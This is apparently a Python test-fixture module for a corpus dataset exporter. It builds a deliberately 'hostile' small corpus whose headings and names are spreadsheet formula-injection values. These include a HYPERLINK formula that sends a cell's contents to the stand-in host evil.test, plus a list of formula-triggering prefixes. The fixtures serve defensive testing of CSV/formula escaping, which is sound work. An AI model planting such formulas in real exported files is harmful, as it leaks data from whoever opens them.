"""The dataset of the frozen corpus, and that of a small corpus whose texts try to be formulas, markup and control codes."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from build_scripts.checks.checked_corpus import load_corpus
from build_scripts.comparing.comparison_of_corpus import Comparison
from build_scripts.model import Answer, Corpus, Evidence, Point, ReadingDoubt, TopicPoints
from build_scripts.publishing.dataset.corpus.corpus_json import corpus_json
from build_scripts.publishing.dataset.writing import Data, data_of, dataset_files
from build_scripts.store.edition import Edition

PARK = Path(__file__).parent / "park"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"点我")'
STARTS = (
    FORMULA,
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "'=1",
    '"quoted", "twice"',
    "行一\n行二",
)


@pytest.fixture(scope="session")
def real(five_texts: Corpus, compared: Comparison, frozen: Path) -> Data:
    return data_of(five_texts, COMMIT, frozen, compared)


@pytest.fixture(scope="session")
def files(real: Data) -> dict[str, bytes]:
    return dataset_files(real)


@pytest.fixture(scope="session")
def hostile(corpus: Corpus) -> Data:
    """The small corpus; its hostile measure has a formula for a heading and bodies named after every bad beginning."""
    held = [
        replace(d, measures=tuple(_worse(m) for m in d.measures)) if d.id == "hostile" else d for d in corpus.documents
    ]
    answer = Answer("hostile", FORMULA, (Evidence("hostile/1.1", quote=FORMULA),))
    point = Point("p", "=1+1", "@SUM(A1)", (answer,), caution="+1", difference="-1")
    corpus = replace(corpus, documents=tuple(held), points=(TopicPoints("enclave-parks", (point,)),))
    received = {d.id: corpus.sources[d.id].encode() for d in held}
    edition = Edition("2026.1", "2026-11-21")
    return Data(corpus, corpus_json(corpus, COMMIT, edition.version), edition, COMMIT, received, {})


@pytest.fixture(scope="session")
def parks() -> Corpus:
    corpus, problems = load_corpus(PARK)
    assert corpus is not None, problems
    doubt = ReadingDoubt("doubt-outline", "grave", 3, "没有读出分条")
    return replace(corpus, doubts={"henan-park": (doubt,)})


@pytest.fixture(scope="session")
def park(parks: Corpus) -> Data:
    """What is written of the small repository in park/."""
    return data_of(parks, COMMIT, PARK, Comparison(parks))


def _worse(measure):
    duties = tuple(replace(measure.responsibilities[0], name=name) for name in STARTS)
    return replace(measure, heading=FORMULA, note="+1", responsibilities=duties)


@pytest.fixture(scope="session")
def hostile_files(hostile: Data) -> dict[str, bytes]:
    return dataset_files(hostile)
